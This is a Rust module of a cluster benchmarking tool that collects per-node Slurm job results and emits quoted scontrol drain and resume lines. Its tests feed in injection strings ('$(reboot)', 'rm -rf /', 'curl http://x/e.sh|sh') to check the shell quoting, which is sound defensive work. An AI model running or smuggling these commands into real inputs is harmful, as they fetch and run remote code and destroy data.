//! A fleet: the suite run on every node of a Slurm cluster. Slurm schedules; [`slurm`] writes
//! its batch script and talks to its clients, [`submit`] checks a job and submits it, one task
//! per node leaves its run in a shared directory, [`collect`] stores what the nodes left, and
//! [`summary`] shows the nodes side by side:
//!
//! ```text
//! RESULTS/slurm-JOB.TOKEN.out          the job's output (every node's run table)
//! RESULTS/JOB.TOKEN/fleet.json         what was submitted (nodes, run arguments), for collect
//! RESULTS/JOB.TOKEN/node-NAME.json     one node's run (oslab.run/1)
//! RESULTS/JOB.TOKEN/node-NAME.failed   why a node's task handed in no run
//! RESULTS/JOB.TOKEN/node-NAME.crashed  a node whose task ended without a word (written by the job)
//! ```
//!
//! TOKEN is drawn at submission: Slurm reuses job ids (a controller that lost its state starts
//! again at 1), and two submissions that got one id must never be taken for one job.

#![deny(missing_docs)]

#[cfg(feature = "clap")]
pub mod args;
mod judged;
pub mod reference;
pub mod slurm;
pub mod submit;
pub mod summary;
pub mod task;

pub use judged::{job_summary, node_history, Against, NodeInJob};
pub use summary::{summarize, FleetSummary, NodeRun};

use oslab_files::{read_bounded, FileError, Links};
use oslab_store::exchange::{self, ImportFailed, RunDocument};
use oslab_store::{RunRecord, RunRef, RunStatus, Store, StoreError};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

/// Tag key of a collected run's job.
pub const JOB_TAG: &str = "fleet.job";
/// Tag key of a collected run's submission token.
pub const SUBMISSION_TAG: &str = "fleet.submission";
/// Tag key of a collected run's node.
pub const NODE_TAG: &str = "fleet.node";
/// The manifest written at submission.
pub const MANIFEST: &str = "fleet.json";

/// What a node left in its job's directory.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NodeFile {
    /// Its run (oslab.run/1).
    Run,
    /// Its task's word on why it has no run.
    Failed,
    /// The job's word on a node whose task started and ended with neither.
    Crashed,
    /// The job's word on a node whose task never started (its binary not staged, twice).
    NotRun,
    /// The task's mark that it started: a node without it was not run, not lost.
    Started,
}

impl NodeFile {
    const ALL: [NodeFile; 5] = [
        NodeFile::Run,
        NodeFile::Failed,
        NodeFile::Crashed,
        NodeFile::NotRun,
        NodeFile::Started,
    ];

    fn suffix(self) -> &'static str {
        match self {
            NodeFile::Run => "json",
            NodeFile::Failed => "failed",
            NodeFile::Crashed => "crashed",
            NodeFile::NotRun => "notrun",
            NodeFile::Started => "started",
        }
    }
}

/// A node's file of one kind.
pub fn node_file(job_dir: &Path, node: &str, kind: NodeFile) -> PathBuf {
    job_dir.join(format!("node-{node}.{}", kind.suffix()))
}

/// (node, kind) for a file name written by [`node_file`]; none for a name [`node_file`] would
/// not write (a node name [`is_node_name`] refuses).
pub fn parse_node_file(name: &str) -> Option<(&str, NodeFile)> {
    let rest = name.strip_prefix("node-")?;
    NodeFile::ALL.into_iter().find_map(|kind| {
        let node = rest.strip_suffix(kind.suffix())?.strip_suffix('.')?;
        is_node_name(node).then_some((node, kind))
    })
}

/// A submission: its Slurm job id and the token drawn when it was submitted (none for results
/// written before tokens were).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct JobRef {
    /// The Slurm job id.
    pub job: String,
    /// The submission token.
    pub token: Option<String>,
}

impl JobRef {
    /// "JOB.TOKEN" (or "JOB"), the job directory's name; none for anything else.
    pub fn parse(s: &str) -> Option<JobRef> {
        let (job, token) = match s.split_once('.') {
            Some((j, t)) => (j, Some(t)),
            None => (s, None),
        };
        (is_job_id(job) && token.is_none_or(is_token)).then(|| JobRef {
            job: job.to_string(),
            token: token.map(str::to_string),
        })
    }

    /// A fresh submission token: 8 hex digits from the kernel's random source.
    pub fn draw_token() -> std::io::Result<String> {
        Ok(oslab_files::private::random_token()?[..8].to_string())
    }
}

impl std::fmt::Display for JobRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.token {
            Some(t) => write!(f, "{}.{t}", self.job),
            None => f.write_str(&self.job),
        }
    }
}

pub use oslab_core::tags::{is_job_id, is_node_name, is_token};

/// A node's run as its job directory holds it.
pub struct HandedIn {
    /// The node.
    pub node: String,
    /// Its file, validated: read again when stored, one at a time.
    pub path: PathBuf,
    /// How its run ended.
    pub status: RunStatus,
    /// How many measurements it holds.
    pub measurements: usize,
}

/// What one job directory holds.
pub struct JobResults {
    /// The submission.
    pub job: JobRef,
    /// The nodes' runs.
    pub runs: Vec<HandedIn>,
    /// (node, why it has no run), from its task.
    pub failed: Vec<(String, String)>,
    /// (node, what the job saw), for nodes whose task ended with no word.
    pub crashed: Vec<(String, String)>,
    /// (node, what the job saw), for nodes whose task never started.
    pub not_run: Vec<(String, String)>,
    /// (node, why), for result files that are no valid run (truncated, forged, a link): named
    /// and left out, the other nodes' runs collected.
    pub unreadable: Vec<(String, String)>,
    /// The nodes the job was submitted to (from the manifest).
    pub expected: Vec<String>,
    /// Files in the job's directory that are no node's (a name [`parse_node_file`] refuses),
    /// each as one printable line: named, never read.
    pub skipped: Vec<String>,
}

/// Where a node of a job stands.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum NodeState {
    /// Its run is complete.
    Ok,
    /// Its run was stopped (a signal, the job's time limit) and holds what completed.
    Partial,
    /// Its run or its task was killed, or the node was lost: whatever it handed in is partial.
    Crashed,
    /// Its task could not run the suite (it says why).
    Failed,
    /// Nothing from it yet: still running, or lost with the job still going.
    Missing,
    /// Its task never started (its binary not staged, its step not launched): not measured, no
    /// fault of the node's known.
    NotRun,
}

impl NodeState {
    /// The state's name.
    pub fn as_str(&self) -> &'static str {
        match self {
            NodeState::Ok => "ok",
            NodeState::Partial => "partial",
            NodeState::Crashed => "crashed",
            NodeState::Failed => "failed",
            NodeState::Missing => "missing",
            NodeState::NotRun => "not run",
        }
    }

    /// The state a name stands for ([`NodeState::as_str`]'s), as stored; an unknown one (a
    /// newer oslab's) reads as missing.
    pub fn parse(s: &str) -> NodeState {
        [
            NodeState::Ok,
            NodeState::Partial,
            NodeState::Crashed,
            NodeState::Failed,
            NodeState::NotRun,
        ]
        .into_iter()
        .find(|n| n.as_str() == s)
        .unwrap_or(NodeState::Missing)
    }

    /// The state of a run that was handed in.
    pub fn of_run(status: RunStatus) -> NodeState {
        match status {
            RunStatus::Complete => NodeState::Ok,
            RunStatus::Interrupted => NodeState::Partial,
            RunStatus::Running | RunStatus::Crashed => NodeState::Crashed,
        }
    }
}

impl JobResults {
    /// Every node's state, with what is known of it, in node order: the manifest's nodes and any
    /// other node that left a file.
    pub fn states(&self) -> Vec<(String, NodeState, String)> {
        let mut out: BTreeMap<&str, (NodeState, String)> = BTreeMap::new();
        for n in &self.expected {
            out.insert(n, (NodeState::Missing, "no result yet".into()));
        }
        for r in &self.runs {
            let state = NodeState::of_run(r.status);
            let detail = format!(
                "{}, run {}",
                oslab_core::units::counted(r.measurements, "measurement"),
                r.status.as_str()
            );
            out.insert(&r.node, (state, detail));
        }
        // A note speaks for a node with no run (a run speaks for itself).
        let unreadable: Vec<(String, String)> = self
            .unreadable
            .iter()
            .map(|(n, why)| {
                (
                    n.clone(),
                    format!("its result file is no valid run, not collected: {why}"),
                )
            })
            .collect();
        let notes = self
            .failed
            .iter()
            .chain(&unreadable)
            .map(|f| (f, NodeState::Failed));
        for ((node, why), state) in notes
            .chain(self.crashed.iter().map(|c| (c, NodeState::Crashed)))
            .chain(self.not_run.iter().map(|c| (c, NodeState::NotRun)))
        {
            let e = out
                .entry(node)
                .or_insert((NodeState::Missing, String::new()));
            if e.0 == NodeState::Missing {
                *e = (state, why.clone());
            }
        }
        out.into_iter()
            .map(|(n, (s, d))| (n.to_string(), s, d))
            .collect()
    }
}

/// The submissions under DIR: DIR itself when it holds node files or a manifest, else its
/// subdirectories named JOB.TOKEN (or JOB).
pub fn job_dirs(dir: &Path) -> Result<Vec<(JobRef, PathBuf)>, FileError> {
    let holds_job = |d: &Path| {
        d.join(MANIFEST).is_file()
            || std::fs::read_dir(d).is_ok_and(|it| {
                it.flatten()
                    .any(|e| e.file_name().to_str().and_then(parse_node_file).is_some())
            })
    };
    let name = |d: &Path| d.file_name().and_then(|n| n.to_str()).map(str::to_string);
    let cannot = |e: std::io::Error| FileError(format!("cannot read {}: {e}", dir.display()));
    let entries = std::fs::read_dir(dir).map_err(cannot)?;
    let mut out = Vec::new();
    if holds_job(dir) {
        let canon = dir.canonicalize().map_err(cannot)?;
        let job = name(&canon)
            .and_then(|n| JobRef::parse(&n))
            .ok_or_else(|| {
                FileError(format!(
                    "{} holds fleet results but is not named after a job (JOB.TOKEN)",
                    dir.display()
                ))
            })?;
        out.push((job, dir.to_path_buf()));
    } else {
        for e in entries.flatten() {
            let p = e.path();
            if let Some(job) = name(&p).and_then(|n| JobRef::parse(&n)) {
                if holds_job(&p) {
                    out.push((job, p));
                }
            }
        }
    }
    if out.is_empty() {
        return Err(FileError(format!(
            "no fleet results under {} (expected DIR/JOB.TOKEN/node-NAME.json, as `oslab fleet submit --results DIR` writes)",
            dir.display()
        )));
    }
    out.sort();
    Ok(out)
}

/// Largest failure reason and manifest read from a results directory.
const FAILED_MAX: u64 = 64 << 10;
const MANIFEST_MAX: u64 = 16 << 20;

/// Reads and validates everything one job directory holds. Nodes write there: links are
/// refused, not followed.
pub fn read_job(job: &JobRef, dir: &Path) -> Result<JobResults, FileError> {
    let mut r = JobResults {
        job: job.clone(),
        runs: Vec::new(),
        failed: Vec::new(),
        crashed: Vec::new(),
        not_run: Vec::new(),
        unreadable: Vec::new(),
        expected: Vec::new(),
        skipped: Vec::new(),
    };
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .map_err(|e| FileError(format!("cannot read {}: {e}", dir.display())))?
        .flatten()
        .map(|e| e.path())
        .collect();
    files.sort();
    for path in files {
        let raw = path.file_name().unwrap_or_default().to_string_lossy();
        let Some((node, kind)) = path
            .file_name()
            .and_then(|n| n.to_str())
            .and_then(parse_node_file)
        else {
            if raw != MANIFEST {
                r.skipped
                    .push(format!("{:?}", oslab_core::text::shortened(&raw, 60)));
            }
            continue;
        };
        if kind == NodeFile::Started {
            continue;
        }
        if kind == NodeFile::Run {
            let doc = match exchange::read_file(&path, Links::Refuse) {
                Ok(doc) => doc,
                Err(e) => {
                    r.unreadable.push((node.to_string(), e.to_string()));
                    continue;
                }
            };
            r.runs.push(HandedIn {
                node: node.to_string(),
                path: path.clone(),
                status: doc.run.status,
                measurements: doc.measurements.len(),
            });
            continue;
        }
        // One line, nothing that acts on a terminal: the file is the node's to write.
        let why = match read_bounded(&path, FAILED_MAX, Links::Refuse) {
            Ok(b) => oslab_core::text::one_line(String::from_utf8_lossy(&b).trim()).into_owned(),
            Err(e) => format!("(its reason is not shown: {e})"),
        };
        let list = match kind {
            NodeFile::Failed => &mut r.failed,
            NodeFile::NotRun => &mut r.not_run,
            _ => &mut r.crashed,
        };
        list.push((node.to_string(), why));
    }
    if let Ok(text) = read_bounded(&dir.join(MANIFEST), MANIFEST_MAX, Links::Refuse) {
        let v: serde_json::Value = serde_json::from_slice(&text)
            .map_err(|e| FileError(format!("{}: {e}", dir.join(MANIFEST).display())))?;
        let submitted = JobRef {
            job: v["job"].as_str().unwrap_or_default().to_string(),
            token: v["token"].as_str().map(str::to_string),
        };
        if submitted != *job {
            return Err(FileError(format!(
                "{}: its manifest is of submission {submitted}, not {job}: results of two submissions are never mixed",
                dir.display()
            )));
        }
        r.expected = v["nodes"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|n| n.as_str().filter(|n| is_node_name(n)).map(str::to_string))
                    .collect()
            })
            .unwrap_or_default();
    }
    Ok(r)
}

/// What collecting one job stored.
pub struct Collected {
    /// (node, run id) of runs stored now.
    pub new: Vec<(String, i64)>,
    /// Runs already in the store.
    pub already: usize,
}

impl Collected {
    /// What collecting `j` did, in lines: runs stored, then every node's state.
    pub fn lines(&self, j: &JobResults) -> Vec<String> {
        let new: Vec<String> = self
            .new
            .iter()
            .map(|(n, id)| format!("{n} (run {id})"))
            .collect();
        let mut out = vec![format!(
            "job {}: collected {}{}{}",
            j.job,
            oslab_core::units::counted(new.len(), "run"),
            if new.is_empty() {
                String::new()
            } else {
                format!(": {}", new.join(", "))
            },
            match self.already {
                0 => String::new(),
                k => format!("; {k} already in the store"),
            }
        )];
        for (node, state, detail) in j.states() {
            out.push(format!("  {node:<12} {:<8} {detail}", state.as_str()));
        }
        if !j.skipped.is_empty() {
            out.push(format!(
                "  skipped, no node's file name: {}",
                j.skipped.join(", ")
            ));
        }
        out
    }

    /// The same as JSON.
    pub fn json(&self, j: &JobResults) -> serde_json::Value {
        let new: Vec<serde_json::Value> = self
            .new
            .iter()
            .map(|(node, run)| serde_json::json!({"node": node, "run": run}))
            .collect();
        let nodes: Vec<serde_json::Value> = j
            .states()
            .into_iter()
            .map(|(node, state, detail)| {
                serde_json::json!({"node": node, "state": state, "detail": detail})
            })
            .collect();
        serde_json::json!({
            "job": j.job.job, "submission": j.job.token, "new": new,
            "already": self.already, "nodes": nodes, "skipped": j.skipped,
        })
    }
}

/// The runs of a store collected from a submission, by node.
fn collected_nodes(store: &Store, job: &JobRef) -> Result<BTreeMap<String, i64>, StoreError> {
    let mut out = BTreeMap::new();
    for id in store.tagged(JOB_TAG, &job.job)? {
        let tags = store.tags(id)?;
        if tags.get(SUBMISSION_TAG) == job.token.as_ref() {
            let node = tags
                .get(NODE_TAG)
                .cloned()
                .unwrap_or_else(|| format!("run{id}"));
            out.insert(node, id);
        }
    }
    Ok(out)
}

/// Stores a job's runs not stored before, each in one transaction, tagged with job, submission
/// and node.
pub fn collect(store: &mut Store, j: &JobResults) -> Result<Collected, ImportFailed> {
    let have = collected_nodes(store, &j.job)?;
    let mut new = Vec::new();
    for r in &j.runs {
        if have.contains_key(&r.node) {
            continue;
        }
        let doc = exchange::read_file(&r.path, Links::Refuse).map_err(ImportFailed::Invalid)?;
        let record = RunRecord {
            id: None,
            ..doc.run.clone()
        };
        let mut tags = vec![(JOB_TAG, j.job.job.as_str()), (NODE_TAG, r.node.as_str())];
        if let Some(t) = &j.job.token {
            tags.push((SUBMISSION_TAG, t));
        }
        let id = store.save_tagged_run(&record, &doc.measurements, &doc.timeline, &tags)?;
        new.push((r.node.clone(), id));
    }
    // Every listed node and how it ended, so that a summary by job id and a node's history know
    // the nodes that handed in nothing.
    let states: Vec<(String, String, String)> = j
        .states()
        .into_iter()
        .map(|(n, st, d)| (n, st.as_str().to_string(), d))
        .collect();
    store.record_job_nodes(&j.job.job, j.job.token.as_deref().unwrap_or(""), &states)?;
    Ok(Collected {
        already: j.runs.len() - new.len(),
        new,
    })
}

/// Why a job's runs cannot be shown.
#[derive(Debug, thiserror::Error)]
pub enum NodeRunsError {
    /// The store failed.
    #[error(transparent)]
    Store(#[from] StoreError),
    /// The job id names several submissions.
    #[error("{0}")]
    Ambiguous(String),
}

/// The collected runs of one submission, one per node: `job` is "JOB.TOKEN", or "JOB" when the
/// store holds one submission of that id.
pub fn node_runs(store: &Store, job: &str) -> Result<(JobRef, Vec<NodeRun>), NodeRunsError> {
    let wanted = JobRef::parse(job);
    let id = wanted.as_ref().map_or(job, |w| w.job.as_str());
    let mut submissions: BTreeSet<Option<String>> = BTreeSet::new();
    for run in store.tagged(JOB_TAG, id)? {
        submissions.insert(store.tags(run)?.get(SUBMISSION_TAG).cloned());
    }
    let job = match wanted {
        Some(w) if w.token.is_some() => w,
        _ if submissions.len() > 1 => {
            let names: Vec<String> = submissions
                .iter()
                .map(|t| {
                    JobRef {
                        job: id.to_string(),
                        token: t.clone(),
                    }
                    .to_string()
                })
                .collect();
            return Err(NodeRunsError::Ambiguous(format!(
                "job id {id} names {} submissions in the store (Slurm reused the id): {}; name one",
                submissions.len(),
                names.join(", ")
            )));
        }
        _ => JobRef {
            job: id.to_string(),
            token: submissions.into_iter().next().flatten(),
        },
    };
    let mut runs = Vec::new();
    for (node, id) in collected_nodes(store, &job)? {
        runs.push(node_run(store, node, id)?);
    }
    Ok((job, runs))
}

/// Run `id` of the store as node `node`'s: its measurements, shape and settings.
pub fn node_run(store: &Store, node: String, id: i64) -> Result<NodeRun, StoreError> {
    let (record, measurements) = store.load_run(&RunRef::Id(id))?;
    let settings = oslab_core::conditions::configuration(&record.fingerprint, &record.environment);
    // A machine's shape is its topology and its memory: nodes of one shape are judged
    // together.
    let memory = settings.iter().find(|(n, _)| n == "memory").map(|m| &m.1);
    let shape =
        serde_json::from_value::<oslab_core::Topology>(record.fingerprint["topology"].clone())
            .ok()
            .map(|t| match memory {
                Some(m) => format!("{}, {m}", t.shape()),
                None => t.shape(),
            });
    Ok(NodeRun {
        node,
        run_id: id,
        started: record.started,
        state: NodeState::of_run(record.status),
        measurements,
        shape,
        settings,
        other_work: serde_json::from_value(record.environment["other_work"].clone())
            .ok()
            .flatten(),
        reference: false,
    })
}

impl From<NodeRunsError> for JobSummaryError {
    fn from(e: NodeRunsError) -> Self {
        match e {
            NodeRunsError::Ambiguous(m) => JobSummaryError::Usage(m),
            NodeRunsError::Store(e) => JobSummaryError::Store(e),
        }
    }
}

/// Why a job's summary cannot be made.
#[derive(Debug, thiserror::Error)]
pub enum JobSummaryError {
    /// The request names no one job.
    #[error("{0}")]
    Usage(String),
    /// The results directory could not be read.
    #[error(transparent)]
    Files(#[from] FileError),
    /// The store failed.
    #[error(transparent)]
    Store(#[from] StoreError),
}

/// The `scontrol` line that drains each node not healthy, with the verdict and its reasons as
/// Slurm's reason, a line each (printed for a person or a script to run; oslab changes no
/// node's state).
pub fn drain_script(job: &JobRef, s: &summary::FleetSummary) -> String {
    s.verdicts
        .iter()
        // A node not judged is not known sick: it is said, not drained.
        .filter(|v| {
            !matches!(
                v.verdict,
                summary::Health::Healthy | summary::Health::NotJudged | summary::Health::NotRun
            )
        })
        .map(|v| {
            drain_line(
                &format!("oslab fleet {job}"),
                &v.node,
                v.verdict.as_str(),
                &v.why,
            ) + "\n"
        })
        .collect()
}

/// One node's `scontrol` drain line, every word quoted for the shell, its reason saying who
/// found what (`source`: `oslab fleet 4711`). A name that is not a node's (a run stored before
/// names were checked) never reaches the shell: it is named in a comment, in Rust's debug form,
/// on one line.
pub fn drain_line(source: &str, node: &str, verdict: &str, why: &[String]) -> String {
    if !is_node_name(node) {
        return format!(
            "# not drained: {:?} is not a node name",
            oslab_core::text::shortened(node, 60)
        );
    }
    let why = oslab_core::text::one_line(&why.join("; ")).into_owned();
    let reason = match why.is_empty() {
        true => format!("{source}: {verdict}"),
        false => format!("{source}: {verdict}: {why}"),
    };
    format!(
        "scontrol update NodeName={} State=DRAIN Reason={}",
        oslab_core::text::shell_word(node),
        oslab_core::text::shell_word(&reason)
    )
}

/// One node's `scontrol` resume line, its name quoted for the shell: a node a check found
/// healthy again goes back into service, if a check drained it (its reason begins `oslab
/// check`): a node an administrator drained for another reason stays drained.
pub fn resume_line(node: &str) -> String {
    match is_node_name(node) {
        true => {
            let n = oslab_core::text::shell_word(node);
            format!("scontrol show node {n} | grep -q 'Reason=oslab check' && scontrol update NodeName={n} State=RESUME")
        }
        false => format!(
            "# not resumed: {:?} is not a node name",
            oslab_core::text::shortened(node, 60)
        ),
    }
}

/// A node's part of a fleet job, once its `oslab run` ended: the latest run of the private store
/// `db` written to `to` as an oslab.run/1 document; the store's files are removed either way.
pub fn hand_in(db: &Path, to: &Path) -> Result<(), String> {
    let exported = (|| {
        let store = Store::open(db).map_err(|e| e.to_string())?;
        let (record, ms) = store.load_run(&RunRef::Latest).map_err(|e| e.to_string())?;
        let timeline = store
            .load_timeline(&RunRef::Latest)
            .map_err(|e| e.to_string())?;
        let doc = serde_json::to_vec(&RunDocument::new(record, ms, timeline))
            .map_err(|e| e.to_string())?;
        oslab_files::write_whole(to, &doc).map_err(|e| e.to_string())
    })();
    remove_store_files(db);
    exported
}

/// Removes a store and its WAL files.
fn remove_store_files(db: &Path) {
    for suffix in ["", "-wal", "-shm"] {
        let mut p = db.as_os_str().to_owned();
        p.push(suffix);
        let _ = std::fs::remove_file(p);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_names_round_trip() {
        let d = Path::new("/r/42");
        let f = node_file(d, "n01", NodeFile::Run);
        assert_eq!(f, Path::new("/r/42/node-n01.json"));
        let name = f.file_name().unwrap().to_str().unwrap();
        assert_eq!(parse_node_file(name), Some(("n01", NodeFile::Run)));
        assert_eq!(
            parse_node_file("node-gpu-3.failed"),
            Some(("gpu-3", NodeFile::Failed))
        );
        assert_eq!(
            parse_node_file("node-n.2.crashed"),
            Some(("n.2", NodeFile::Crashed))
        );
        assert_eq!(parse_node_file("node-n1json"), None);
        // A name node_file would not write is no node's file.
        assert_eq!(parse_node_file("node-a\nb.json"), None);
        assert_eq!(parse_node_file("node-.hidden.json"), None);
        assert_eq!(parse_node_file("node-\u{1b}[2J.failed"), None);
        assert_eq!(parse_node_file("fleet.json"), None);
        assert!(is_job_id("123") && is_job_id("123_4") && !is_job_id("x1") && !is_job_id(""));
        let j = JobRef::parse("42.0a1b2c3d").unwrap();
        assert_eq!(
            (j.job.as_str(), j.token.as_deref()),
            ("42", Some("0a1b2c3d"))
        );
        assert_eq!(j.to_string(), "42.0a1b2c3d");
        assert_eq!(JobRef::parse("42").unwrap().token, None);
        for bad in ["42.", "42.a/b", ".ab", "x.ab", "42.a.b"] {
            assert!(JobRef::parse(bad).is_none(), "{bad}");
        }
        let t = JobRef::draw_token().unwrap();
        assert!(is_token(&t) && t.len() == 8 && t != JobRef::draw_token().unwrap());
        assert!(is_node_name("n01.cluster") && !is_node_name("../x") && !is_node_name(".h"));
    }

    #[test]
    fn a_drain_line_is_one_quoted_command_or_a_comment() {
        let job = format!("oslab fleet {}", JobRef::parse("4711.0a1b2c3d").unwrap());
        let why = vec!["clock 20% slow; it's \"$(reboot)\"\nrm -rf /".to_string()];
        let line = drain_line(&job, "n01", "sick", &why);
        assert_eq!(line.lines().count(), 1, "{line}");
        // The shell reads it back as exactly four words, the reason whole.
        let out = std::process::Command::new("bash")
            .arg("-c")
            .arg(format!(
                "set -- {}; printf '%s\\n' \"$#\" \"$4\"",
                line.trim_start_matches("scontrol ")
            ))
            .output()
            .unwrap();
        let out = String::from_utf8(out.stdout).unwrap();
        assert!(
            out.starts_with("4\n") && out.contains("$(reboot)"),
            "{line}\n{out}"
        );
        assert_eq!(
            resume_line("n01"),
            "scontrol show node n01 | grep -q 'Reason=oslab check' && scontrol update NodeName=n01 State=RESUME"
        );
        for crafted in [
            "n9 State=RESUME; curl http://x/e.sh|sh; #",
            "n9\nrm -rf /x #",
            "n'1",
        ] {
            let line = drain_line(&job, crafted, "sick", &[]);
            assert!(
                line.starts_with("# not drained: ") && line.lines().count() == 1,
                "{line}"
            );
            let line = resume_line(crafted);
            assert!(
                line.starts_with("# not resumed: ") && line.lines().count() == 1,
                "{line}"
            );
        }
    }
}
